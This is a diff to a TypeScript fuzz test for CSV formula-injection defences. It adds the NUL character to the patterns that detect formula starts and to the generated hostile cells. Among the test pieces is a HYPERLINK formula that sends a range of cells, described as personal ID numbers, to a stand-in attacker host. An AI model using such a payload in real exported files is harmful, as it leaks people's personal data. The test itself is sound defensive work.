@@ -1,6 +1,6 @@
 /**
  * Formula injection (CSV injection) in every CSV Bango writes, ADR 032. A cell that starts with
- * = + - @, tab or CR runs as a formula in Excel: a dependent typed as =HYPERLINK(…&F2:F99) would
+ * = + - @, tab, CR or NUL runs as a formula in Excel: a dependent typed as =HYPERLINK(…&F2:F99) would
  * send everyone's 個人番号 to an outside address with one click.
  *   1. Every format of the registry (CSV_FORMATS), in each of its encodings: generated hostile
  *      cells in every column.
@@ -22,9 +22,9 @@ import { unzip } from './unzip.ts'
 const SEED = Number(process.env.FUZZ_SEED ?? Math.floor(Math.random() * 2 ** 31))
 
 /** What a spreadsheet runs as a formula: these first, or after leading blanks (full-width forms too, ADR 032). */
-const FORMULA_CELL = /^[=+\-@\t\r＝＋－＠]|^[\s\u3000]+[=+\-@＝＋－＠]/
+const FORMULA_CELL = /^[=+\-@\t\r\0＝＋－＠]|^[\s\u3000]+[=+\-@＝＋－＠]/
 /** A value the writer must leave alone: nothing that could start a formula before its first other character. */
-const BENIGN = (value: string) => !/^[\s\u3000']*[=+\-@＝＋－＠\t\r]/.test(value)
+const BENIGN = (value: string) => !/^[\s\u3000']*[=+\-@＝＋－＠\t\r\0]/.test(value)
 
 /** The bytes of a CSV as a spreadsheet reads them: BOM-led UTF-8 or Shift_JIS, strict RFC 4180. */
 function open(bytes: Uint8Array, encoding: CsvEncoding): string[][] {
@@ -48,7 +48,7 @@ function formulaCells(format: CsvFormat, records: string[][]): string[] {
 // Pieces of hostile cells: formula starts (ASCII and full-width), what breaks quoting, the
 // quote prefix itself, blanks, and ordinary text. All of it Shift_JIS (CP932) can hold.
 const piece = fc.constantFrom(
-  ...['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '＝', '＋', '－', '＠', "'", '"', ',', ';', ' ', '\u3000'],
+  ...['=', '+', '-', '@', '\t', '\r', '\0', '\n', '\r\n', '＝', '＋', '－', '＠', "'", '"', ',', ';', ' ', '\u3000'],
   ...[
     'SUM(1+1)',
     'HYPERLINK("https://evil.example/?"&F2:F99,"詳細")',
